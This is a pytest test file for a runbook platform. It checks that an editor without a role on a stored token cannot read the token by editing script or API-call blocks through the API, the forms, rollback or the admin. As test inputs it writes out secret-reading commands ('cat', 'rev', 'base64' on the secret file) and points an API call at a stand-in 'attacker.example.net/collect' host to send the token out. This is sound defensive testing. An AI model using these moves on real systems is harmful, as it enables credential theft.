"""Issue 12.1: an editor who holds no role on a credential cannot get at it by changing a block that
carries it — through the API, the page forms, rollback or the admin. Runs use real Docker."""

import base64
import json

import pytest
from django.contrib.auth.models import Permission

from apps.credentials.services import credential_create, credential_grant
from apps.executions.models import Execution
from apps.runbooks.models import Block, Runbook
from apps.runbooks.services.access import runbook_grant
from apps.runbooks.services.runbooks import runbook_create, runbook_update
from apps.runbooks.versions import runbook_publish
from tests.support.executions import output_of, run_now

SECRET = "tok-Z9QX-very-secret-value"


@pytest.fixture
def tok(cast):
    return credential_create(user=cast.owner, name="tok", kind="token", secret=SECRET)


@pytest.fixture
def target(cast, environment, tok):
    """R: the owner's runbook with "tok" on a command and an api_call block; `editor` edits it."""
    runbook = runbook_create(
        user=cast.owner,
        title="R",
        environment=environment.pk,
        blocks=[
            {"key": "use", "kind": "command", "config": {"script": "echo using tok", "credentials": [tok.pk]}},
            {
                "key": "call",
                "kind": "api_call",
                "config": {"method": "GET", "url": "https://api.example.com/status", "credential": tok.pk},
            },
        ],
    )
    for role in ("editor", "runner", "viewer"):
        runbook_grant(runbook=runbook, actor=cast.owner, principal=getattr(cast, role), role=role)
    return runbook


def blocks_of(runbook: Runbook) -> list[dict]:
    return [
        {"key": block.key, "title": block.title, "kind": block.kind, "config": dict(block.config)}
        for block in runbook.blocks.order_by("position")
    ]


def patch_blocks(api, runbook, blocks):
    runbook.refresh_from_db()
    return api.patch(f"/api/v1/runbooks/{runbook.pk}/", {"revision": runbook.revision, "blocks": blocks}, format="json")


def assert_refused_naming_tok(answer, runbook, before):
    assert answer.status_code == 400, answer.content
    text = answer.content.decode()
    assert "“tok”" in text and "owner" in text and "user role" in text
    runbook.refresh_from_db()
    assert blocks_of(runbook) == before
    assert SECRET not in text


def test_it_refuses_an_editor_who_keeps_the_credential_and_changes_the_script(cast, api_for, target):
    before = blocks_of(target)
    blocks = blocks_of(target)
    blocks[0]["config"]["script"] = "rev $RB_SECRET_TOK_FILE"
    assert_refused_naming_tok(patch_blocks(api_for(cast.editor), target, blocks), target, before)


@pytest.mark.parametrize(
    "change",
    [
        {"url": "https://attacker.example.net/collect"},
        {"method": "POST"},
        {"headers": {"X-Forward": "1"}},
        {"body": "{}"},
        {"follow_redirects": True},
    ],
    ids=["url", "method", "headers", "body", "redirects"],
)
def test_it_refuses_an_editor_who_points_an_api_call_elsewhere(cast, api_for, target, change):
    before = blocks_of(target)
    blocks = blocks_of(target)
    blocks[1]["config"].update(change)
    if change.get("method") == "POST":
        blocks[1]["config"]["body"] = ""
    assert_refused_naming_tok(patch_blocks(api_for(cast.editor), target, blocks), target, before)


def test_it_refuses_an_editor_who_turns_the_api_call_into_a_command(cast, api_for, target, tok):
    before = blocks_of(target)
    blocks = blocks_of(target)
    blocks[1] = {"key": "call", "title": "", "kind": "command", "config": {"script": "cat $RB_SECRET_TOK_FILE",
                                                                           "credentials": [tok.pk]}}  # fmt: skip
    assert_refused_naming_tok(patch_blocks(api_for(cast.editor), target, blocks), target, before)


def test_it_refuses_moving_the_credential_to_a_new_block_under_another_key(cast, api_for, target, tok):
    before = blocks_of(target)
    blocks = [*blocks_of(target), {"key": "steal", "kind": "command",
                                   "config": {"script": "base64 $RB_SECRET_TOK_FILE", "credentials": [tok.pk]}}]  # fmt: skip
    answer = patch_blocks(api_for(cast.editor), target, blocks)
    assert answer.status_code == 400
    target.refresh_from_db()
    assert blocks_of(target) == before


def test_the_editor_cannot_run_a_changed_draft_and_read_the_secret(cast, api_for, target, docker_engine):
    """The attack end to end: PATCH refused, so the draft the editor runs is still the owner's script."""
    api = api_for(cast.editor)
    blocks = blocks_of(target)
    blocks[0]["config"]["script"] = "rev $RB_SECRET_TOK_FILE; base64 $RB_SECRET_TOK_FILE"
    assert patch_blocks(api, target, blocks).status_code == 400
    started = api.post(f"/api/v1/runbooks/{target.pk}/executions/", {"version": "draft", "block": "use"}, format="json")
    assert started.status_code == 202, started.content
    execution = run_now(Execution.objects.get(pk=started.json()["id"]))
    output = output_of(execution.steps.get(block_key="use"))
    assert output.strip() == "using tok"
    for spelling in (SECRET, SECRET[::-1], base64.b64encode(SECRET.encode()).decode()):
        assert spelling not in api.get(f"/api/v1/executions/{execution.pk}/").content.decode()


def test_an_editor_may_still_retitle_move_or_strip_the_credential(cast, api_for, target):
    api = api_for(cast.editor)
    blocks = blocks_of(target)
    blocks[0]["title"] = "Use the token"
    blocks.reverse()
    assert patch_blocks(api, target, blocks).status_code == 200
    # Removing the credential while changing the script is allowed: nothing secret is left to read.
    blocks = blocks_of(target)
    use = next(block for block in blocks if block["key"] == "use")
    use["config"] = {"script": "rev /etc/hostname"}
    assert patch_blocks(api, target, blocks).status_code == 200
    assert "credentials" not in Block.objects.get(runbook=target, key="use").config or not Block.objects.get(
        runbook=target, key="use"
    ).config.get("credentials")


def test_a_credential_user_may_change_the_block(cast, api_for, target, tok):
    credential_grant(credential=tok, actor=cast.owner, principal=cast.editor, role="user")
    blocks = blocks_of(target)
    blocks[0]["config"]["script"] = "echo changed by a credential user"
    assert patch_blocks(api_for(cast.editor), target, blocks).status_code == 200


def test_the_block_edit_form_refuses_the_change_with_the_reason(cast, client_for, target):
    block = target.blocks.get(key="use")
    prefix = f"block-{block.pk}"
    answer = client_for(cast.editor).post(
        f"/runbooks/{target.pk}/blocks/{block.pk}/edit",
        {
            "revision": target.revision,
            f"{prefix}-key": "use",
            f"{prefix}-title": "",
            f"{prefix}-script": "rev $RB_SECRET_TOK_FILE",
            f"{prefix}-shell": "sh",
            f"{prefix}-timeout_seconds": "300",
            f"{prefix}-credentials": [str(block.config["credentials"][0])],
        },
        HTTP_HX_REQUEST="true",
    )
    assert answer.status_code == 400, answer.content[:500]
    assert "“tok”" in answer.content.decode()
    block.refresh_from_db()
    assert block.config["script"] == "echo using tok"


def test_the_new_block_form_refuses_a_credential_the_editor_holds_no_role_on(cast, client_for, target, tok):
    target.refresh_from_db()
    answer = client_for(cast.editor).post(
        f"/runbooks/{target.pk}/blocks/",
        {
            "kind": "command",
            "prefix": "new-0000abcd",
            "revision": target.revision,
            "new-0000abcd-key": "steal",
            "new-0000abcd-title": "",
            "new-0000abcd-script": "cat $RB_SECRET_TOK_FILE",
            "new-0000abcd-shell": "sh",
            "new-0000abcd-timeout_seconds": "60",
            "new-0000abcd-credentials": [str(tok.pk)],
        },
        HTTP_HX_REQUEST="true",
    )
    assert answer.status_code == 400
    assert not Block.objects.filter(runbook=target, key="steal").exists()


def test_reordering_is_not_a_change_of_config_and_stays_allowed(cast, client_for, target):
    target.refresh_from_db()
    before = {block["key"]: block["config"] for block in blocks_of(target)}
    answer = client_for(cast.editor).post(
        f"/runbooks/{target.pk}/blocks/reorder",
        {"revision": target.revision, "order": "call,use"},
        HTTP_HX_REQUEST="true",
    )
    assert answer.status_code == 200, answer.content[:300]
    assert [block.key for block in target.blocks.order_by("position")] == ["call", "use"]
    assert {block["key"]: block["config"] for block in blocks_of(target)} == before


def test_rollback_by_an_editor_cannot_restore_a_credential_block_they_hold_no_role_on(cast, api_for, target):
    runbook_publish(runbook=target, user=cast.owner, message="v1")
    target.refresh_from_db()
    blocks = blocks_of(target)
    blocks[0]["config"]["script"] = "echo v2 by the owner"
    runbook_update(runbook=target, user=cast.owner, revision=target.revision, blocks=blocks)
    runbook_publish(runbook=target, user=cast.owner, message="v2")
    answer = api_for(cast.editor).post(
        f"/api/v1/runbooks/{target.pk}/versions/1/rollback/", {"message": "back"}, format="json"
    )
    assert answer.status_code == 400, answer.content
    assert "“tok”" in answer.content.decode()
    assert target.versions.count() == 2
    assert target.blocks.get(key="use").config["script"] == "echo v2 by the owner"
    # The owner, a user of the credential, may.
    assert (
        api_for(cast.owner)
        .post(f"/api/v1/runbooks/{target.pk}/versions/1/rollback/", {"message": "back"}, format="json")
        .status_code
        == 201
    )


@pytest.fixture
def clerk(django_user_model):
    """Staff with the admin's change permissions on runbooks and blocks, and no credential role."""

    user = django_user_model.objects.create_user("clerk", password="clerk", is_staff=True)
    codenames = ["change_block", "view_block", "change_runbook", "view_runbook"]
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


def test_the_block_admin_applies_the_credential_rule(clerk, target, client_for):
    block = target.blocks.get(key="use")
    config = {**block.config, "script": "rev $RB_SECRET_TOK_FILE"}
    answer = client_for(clerk).post(
        f"/admin/runbooks/block/{block.pk}/change/",
        {"position": 0, "key": "use", "title": "", "kind": "command", "config": json.dumps(config)},
    )
    assert answer.status_code == 200
    assert "“tok”" in answer.content.decode()
    block.refresh_from_db()
    assert block.config["script"] == "echo using tok"


def test_the_runbook_admin_inline_applies_the_credential_rule(clerk, target, client_for):
    blocks = list(target.blocks.order_by("position"))
    data = {
        "title": target.title, "description": target.description, "tags": "", "environment": target.environment_id,
        "parameters": "[]", "owner": target.owner_id, "opened_revision": target.revision,
        "blocks-TOTAL_FORMS": len(blocks), "blocks-INITIAL_FORMS": len(blocks),
        "blocks-MIN_NUM_FORMS": 0, "blocks-MAX_NUM_FORMS": 1000, "_save": "Save",
    }  # fmt: skip
    for index, block in enumerate(blocks):
        config = dict(block.config)
        if block.key == "call":
            config["url"] = "https://attacker.example.net/collect"
        data |= {
            f"blocks-{index}-id": block.pk, f"blocks-{index}-runbook": target.pk,
            f"blocks-{index}-position": index, f"blocks-{index}-key": block.key, f"blocks-{index}-title": "",
            f"blocks-{index}-kind": block.kind, f"blocks-{index}-config": json.dumps(config),
        }  # fmt: skip
    answer = client_for(clerk).post(f"/admin/runbooks/runbook/{target.pk}/change/", data)
    assert answer.status_code == 200
    assert "“tok”" in answer.content.decode()
    assert target.blocks.get(key="call").config["url"] == "https://api.example.com/status"
